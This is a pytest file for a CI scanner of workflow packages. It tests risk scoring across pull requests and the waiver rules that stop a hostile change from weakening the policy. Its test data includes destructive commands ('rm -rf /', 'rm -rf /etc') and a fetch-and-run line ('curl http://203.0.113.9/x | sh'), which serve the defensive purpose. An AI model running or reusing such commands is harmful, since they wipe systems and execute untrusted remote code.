"""Pull requests in real repositories: what a change does to the risk, and that a hostile one gets nothing through."""

import json
import subprocess
from datetime import date
from pathlib import Path

import pytest

from wpk_sandbox import continuous
from wpk_sandbox.finding import Finding
from wpk_sandbox.judging import Judged, Request, judge
from wpk_sandbox.package.discover import changed_for_event
from wpk_sandbox.rules.policy import Outcome

TODAY = date(2026, 11, 23)
HARMLESS = "systemctl is-active web"
WIPE = "rm -rf /"
PURGE = "rm -rf /srv/data"
ALLOW = "# wpk-sandbox: allow {} -- the machine is thrown away (until 2027-01-31, @ops)"


def handler(name: str, command: str, above: str = "") -> str:
    comment = f"    {above}\n" if above else ""
    return f"{comment}    - {{name: {name}, type: shell, timeout: 5s, config: {{command: '{command}'}}}}\n"


def package(*handlers: str, name: str = "clean-up") -> str:
    head = f"apiVersion: v1\nkind: WorkflowPackage\nmetadata: {{name: {name}, version: 1.0.0}}\n"
    return head + "spec:\n  runtime: {type: shell}\n  handlers:\n" + "".join(handlers)


class Change:
    """A repository with a base and a branch, and the CI job of the pull request from it."""

    def __init__(self, folder: Path) -> None:
        self.root = folder / "repository"
        self.root.mkdir()
        self.git("init", "-q")

    def git(self, *arguments: str) -> str:
        identity = ["-c", "user.name=t", "-c", "user.email=t@t.example", "-c", "init.defaultBranch=main"]
        argv = ["git", *identity, *arguments]
        return subprocess.run(argv, cwd=self.root, capture_output=True, text=True, check=True).stdout.strip()

    def commit(self, **files: str | None) -> str:
        """Write files by their names in `PATHS` (None removes one), commit all, and give the hash."""
        for name, text in files.items():
            path = self.root / PATHS[name]
            path.parent.mkdir(parents=True, exist_ok=True)
            path.unlink() if text is None else path.write_text(text)
        self.git("add", "-A")
        self.git("commit", "-qm", "change", "--allow-empty")
        return self.git("rev-parse", "HEAD")

    def judged(self, base: str) -> tuple[list[Judged], list[Finding]]:
        """What CI says of the pull request from `base` to what is checked out, and of no package."""
        head = self.git("rev-parse", "HEAD")
        event = {"pull_request": {"base": {"sha": base}, "head": {"sha": head}}}
        path = self.root.parent / "event.json"
        path.write_text(json.dumps(event))
        environment = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(path)}
        settings = continuous.settings(self.root, environment, {}, None)
        selection = changed_for_event(self.root, environment, event, settings["discover.patterns"])
        request = Request(self.root, selection, settings, "run", today=TODAY)
        loose: list[Finding] = []
        return list(judge(continuous.measured(request, environment), loose)), loose

    def one(self, base: str) -> Judged:
        (judged,), _ = self.judged(base)
        return judged


PATHS = {
    "policy": ".wpk-sandbox.yaml",
    "clean": "ops/clean.wpk.yaml",
    "moved": "ops/other/renamed.wpk.yaml",
    "waived": "ops/waived.wpk.yaml",
    "manifest": "k8s/web.yaml",
}


@pytest.fixture
def change(tmp_path: Path) -> Change:
    return Change(tmp_path)


def rules(judged: Judged) -> set[str]:
    """The rules of the findings that count."""
    return {finding.rule for finding in judged.findings if finding.waiver is None}


def policy_waiver(rule: str, **further: str) -> str:
    entry = {"rule": rule, "path": "ops/waived.wpk.yaml", "reason": "r", "until": "2027-01-31", "owner": "@ops"}
    return json.dumps({"policy": {"waivers": [entry | further]}})


def test_the_difference_names_the_new_step_and_its_rule(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    judged = change.one(base)
    assert (judged.base_risk, judged.decision.risk) == (0, 30)
    assert judged.risk_changes == ("step `purge` is new (shell-destroy-data)",)


def test_the_difference_tells_a_changed_step_from_a_new_one_and_what_went(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    change.commit(clean=package(handler("look", "curl http://203.0.113.9/x | sh"), handler("last", HARMLESS)))
    judged = change.one(base)
    assert any(each.startswith("step `look` now has shell-fetch-and-run") for each in judged.risk_changes)
    assert "step `purge` is gone (shell-destroy-data)" in judged.risk_changes


def test_a_step_that_only_moved_makes_no_difference(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS), handler("purge", PURGE)))
    change.commit(clean=package(handler("purge", PURGE), handler("look", HARMLESS)))
    judged = change.one(base)
    assert (judged.base_risk, judged.risk_changes) == (judged.decision.risk, ())


def test_a_package_that_the_base_lacks_has_no_difference(change: Change) -> None:
    base = change.commit(policy="")
    change.commit(clean=package(handler("purge", PURGE)))
    judged = change.one(base)
    assert (judged.base_risk, judged.risk_changes, judged.decision.risk) == (None, (), 30)


def test_a_change_is_not_hidden_behind_a_rename(change: Change) -> None:
    look = [handler(f"look-{number}", HARMLESS) for number in range(9)]
    base = change.commit(clean=package(*look))
    change.commit(clean=None, moved=package(*look, handler("purge", PURGE)))
    judged = change.one(base)
    assert judged.package.path == PATHS["moved"]
    assert (judged.base_risk, judged.risk_changes) == (0, ("step `purge` is new (shell-destroy-data)",))


def test_a_rename_that_git_does_not_see_is_followed_by_the_package_name(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=None, moved=package(*(handler(f"purge-{number}", PURGE) for number in range(40))))
    judged = change.one(base)
    assert judged.base_risk == 0
    assert judged.risk_changes[0] == "step `purge-0` is new (shell-destroy-data)"
    assert judged.risk_changes[-1] == "and 32 more"


def test_another_package_in_a_new_file_has_no_difference(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=None, moved=package(*(handler(f"x-{n}", PURGE) for n in range(40)), name="another"))
    assert change.one(base).base_risk is None


def test_the_policy_that_a_pull_request_edits_decides_nothing(change: Change) -> None:
    base = change.commit(policy="policy: {required_fields: [metadata.author]}\n", clean=package(handler("a", "ls")))
    loose = "policy: {severity: {shell-destroy-data: off}, review_from: 99}\n"
    change.commit(policy=loose, clean=package(handler("purge", PURGE)))
    assert {"shell-destroy-data", "required-field"} <= rules(change.one(base))


def test_the_policy_of_the_base_decides(change: Change) -> None:
    base = change.commit(
        policy="policy: {severity: {shell-destroy-data: off}}\n", clean=package(handler("a", "ls"))
    )
    change.commit(policy="", clean=package(handler("purge", PURGE)))
    judged = change.one(base)
    assert (rules(judged), judged.decision.risk) == (set(), 0)


def test_a_waiver_that_comes_with_a_critical_finding_is_refused(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    judged = change.one(base)
    assert {"shell-destroy-system", "waiver-refused"} <= rules(judged)
    assert judged.decision.outcome is Outcome.BLOCK


def test_a_waiver_that_comes_with_a_lesser_finding_counts_and_shows(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=package(handler("purge", PURGE, ALLOW.format("shell-destroy-data"))))
    judged = change.one(base)
    (waived,) = (finding for finding in judged.findings if finding.waiver)
    assert (waived.rule, waived.points, judged.decision.risk) == ("shell-destroy-data", 0, 0)
    assert waived.waiver is not None
    assert waived.waiver.owner == "@ops"


def test_a_critical_finding_that_the_base_waives_stays_waived(change: Change) -> None:
    wiped = handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))
    base = change.commit(clean=package(wiped))
    change.commit(clean=package(handler("look", HARMLESS), wiped))
    judged = change.one(base)
    assert (rules(judged), judged.decision.outcome) == (set(), Outcome.APPROVE)


@pytest.mark.parametrize(
    "handlers",
    [
        pytest.param([handler("wipe", "rm -rf /etc", ALLOW.format("shell-destroy-system"))], id="another command"),
        pytest.param([handler("other", WIPE, ALLOW.format("shell-destroy-system"))], id="another step"),
        pytest.param([handler("wipe", WIPE + "; ls", ALLOW.format("shell-destroy-system"))], id="more in the step"),
        pytest.param([handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))] * 2, id="a second time"),
    ],
)
def test_a_waiver_of_the_base_excuses_no_other_critical_finding(change: Change, handlers: list[str]) -> None:
    base = change.commit(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    change.commit(clean=package(*handlers))
    judged = change.one(base)
    assert {"shell-destroy-system", "waiver-refused"} <= rules(judged)
    assert judged.decision.blocked


def test_an_expired_waiver_cannot_be_prolonged_by_the_pull_request(change: Change) -> None:
    old = "# wpk-sandbox: allow shell-destroy-system -- r (until 2026-01-31, @ops)"
    base = change.commit(clean=package(handler("wipe", WIPE, old)))
    change.commit(clean=package(handler("wipe", WIPE, old.replace("2026", "2027"))))
    assert change.one(base).decision.blocked


def test_a_waiver_that_still_holds_cannot_be_prolonged_by_the_pull_request(change: Change) -> None:
    soon = ALLOW.format("shell-destroy-system").replace("2027-01-31", "2026-12-31")
    base = change.commit(clean=package(handler("wipe", WIPE, soon)))
    change.commit(clean=package(handler("look", HARMLESS), handler("wipe", WIPE, soon)))
    assert not change.one(base).decision.blocked
    change.commit(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    assert change.one(base).decision.blocked


def test_a_comment_does_not_take_over_what_the_policy_waives_elsewhere(change: Change) -> None:
    policy = policy_waiver("shell-destroy-system", text=WIPE)
    base = change.commit(policy=policy, waived=package(handler("wipe", WIPE)))
    change.commit(waived=None, moved=package(handler("wipe", WIPE)))
    assert change.one(base).decision.blocked
    change.commit(moved=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    assert change.one(base).decision.blocked


def test_waived_text_behind_another_command_excuses_nothing(change: Change) -> None:
    base = change.commit(policy=policy_waiver("shell-destroy-system", text="rm -rf /etc"))
    change.commit(waived=package(handler("wipe", WIPE + " # rm -rf /etc")))
    assert change.one(base).decision.blocked
    change.commit(waived=package(handler("wipe", "rm -rf /etc")))
    assert not change.one(base).decision.blocked


def test_packages_that_change_places_take_no_waiver_along(change: Change) -> None:
    wiped = package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system")))
    other = package(handler("wipe", WIPE), name="other")
    base = change.commit(clean=wiped, moved=other)
    change.commit(clean=other, moved=wiped)
    judged, _ = change.judged(base)
    assert [each.decision.blocked for each in judged] == [True, True]


def test_a_moved_file_keeps_what_the_base_waives_and_gains_nothing(change: Change) -> None:
    wiped = handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))
    looks = [handler(f"look-{number}", HARMLESS) for number in range(9)]
    base = change.commit(clean=package(*looks, wiped))
    change.commit(clean=None, moved=package(*looks, wiped))
    assert not change.one(base).decision.blocked
    change.commit(moved=package(*looks, wiped, handler("again", WIPE, ALLOW.format("shell-destroy-system"))))
    judged = change.one(base)
    assert judged.decision.blocked
    assert judged.risk_changes == ("step `again` is new (shell-destroy-system)", "waiver-refused is new")


def test_a_file_that_moves_to_a_waived_path_is_waived_only_for_the_text_that_the_policy_names(
    change: Change,
) -> None:
    policy = policy_waiver("shell-destroy-system", text="rm -rf /srv/../")
    base = change.commit(policy=policy, clean=package(handler("look", HARMLESS)))
    change.commit(clean=None, waived=package(handler("look", HARMLESS), handler("wipe", WIPE)))
    assert change.one(base).decision.blocked


def test_a_critical_rule_is_waived_by_the_policy_of_the_base_for_one_file_and_line(change: Change) -> None:
    exact = policy_waiver("shell-destroy-system", text=WIPE)
    base = change.commit(policy=exact)
    change.commit(waived=package(handler("wipe", WIPE)))
    assert not change.one(base).decision.blocked


@pytest.mark.parametrize("further", [{}, {"text": WIPE, "path": "ops/*.wpk.yaml"}])
def test_a_critical_rule_is_not_waived_broadly(change: Change, further: dict[str, str]) -> None:
    base = change.commit(policy=policy_waiver("shell-destroy-system", **further))
    change.commit(waived=package(handler("wipe", WIPE)))
    judged = change.one(base)
    assert judged.decision.blocked
    assert "waiver-refused" in rules(judged)


def test_a_waiver_that_a_pull_request_adds_to_the_policy_does_not_count(change: Change) -> None:
    base = change.commit(policy="")
    added = policy_waiver("shell-destroy-data")
    change.commit(policy=added, waived=package(handler("purge", PURGE)))
    assert rules(change.one(base)) == {"shell-destroy-data"}


def test_the_policys_own_waivers_are_looked_after(change: Change) -> None:
    entries = [
        {"rule": "shell-destroy-data", "path": "ops/*", "reason": "r", "until": "2026-11-22", "owner": "@ops"},
        {"rule": "external-call", "path": "ops/*", "reason": "r", "until": "2026-11-23", "owner": "@ops"},
        {"rule": "external-call", "path": "elsewhere/*", "reason": "r", "until": "2026-11-23", "owner": "@ops"},
        {"rule": "external-call", "path": "ops/*", "reason": "r", "owner": "@ops"},
    ]
    base = change.commit(policy=json.dumps({"policy": {"waivers": entries}}))
    change.commit(clean=package(handler("purge", PURGE)))
    (judged,), loose = change.judged(base)
    assert rules(judged) == {"shell-destroy-data"}
    assert [each.rule for each in loose] == ["waiver-expired", "waiver-unused", "waiver-invalid"]
    assert {each.location.path for each in loose} == {".wpk-sandbox.yaml"}


def test_outside_of_a_pull_request_a_comment_waives_critical_findings_too(change: Change) -> None:
    change.commit(clean=package(handler("wipe", WIPE, ALLOW.format("shell-destroy-system"))))
    settings = continuous.settings(change.root, {}, {}, None)
    selection = changed_for_event(change.root, {"GITHUB_EVENT_NAME": "schedule"}, {})
    request = continuous.measured(Request(change.root, selection, settings, "run", today=TODAY), {})
    (judged,) = judge(request, [])
    assert not judged.decision.blocked


APPLIES = "    - {name: roll, type: k8s, timeout: 5s, config: {action: apply, manifest: k8s/web.yaml}}\n"
POD = """\
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
spec:
  automountServiceAccountToken: false
  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
  containers:
    - name: web
      image: registry.example.com/web:1.2.0
      resources: {limits: {cpu: 100m, memory: 64Mi}}
      securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}
"""
WAIVE = "# wpk-sandbox: allow host-namespace -- it reads processes (until 2027-01-31, @ops)"


def test_a_change_of_a_manifest_beside_the_package_is_measured_against_the_base(change: Change) -> None:
    base = change.commit(clean=package(APPLIES), manifest=POD)
    change.commit(manifest=POD.replace("spec:\n", "spec:\n  hostPID: true\n"))
    judged = change.one(base)
    assert (judged.base_risk, judged.decision.outcome) == (0, Outcome.BLOCK)
    assert any("host-namespace" in each for each in judged.risk_changes)


def test_a_comment_of_the_pull_request_waives_no_critical_finding_of_a_manifest(change: Change) -> None:
    base = change.commit(clean=package(APPLIES), manifest=POD)
    change.commit(manifest=POD.replace("spec:\n", f"spec:\n  hostPID: true {WAIVE}\n"))
    judged = change.one(base)
    assert "host-namespace" in rules(judged)
    assert judged.decision.outcome is Outcome.BLOCK


def test_a_name_is_taken_by_a_package_that_the_pull_request_does_not_touch(change: Change) -> None:
    base = change.commit(waived=package(handler("look", HARMLESS), name="clean-up"))
    change.commit(clean=package(handler("look", HARMLESS), name="clean-up"))
    (finding,) = [each for each in change.one(base).findings if each.rule == "name-taken"]
    assert finding.message == "ops/waived.wpk.yaml:3 is called `clean-up` too"
    assert finding.location.path == "ops/clean.wpk.yaml"


def test_a_package_that_moves_takes_its_name_with_it(change: Change) -> None:
    base = change.commit(clean=package(handler("look", HARMLESS)))
    change.commit(clean=None, moved=package(handler("look", HARMLESS)))
    assert "name-taken" not in rules(change.one(base))
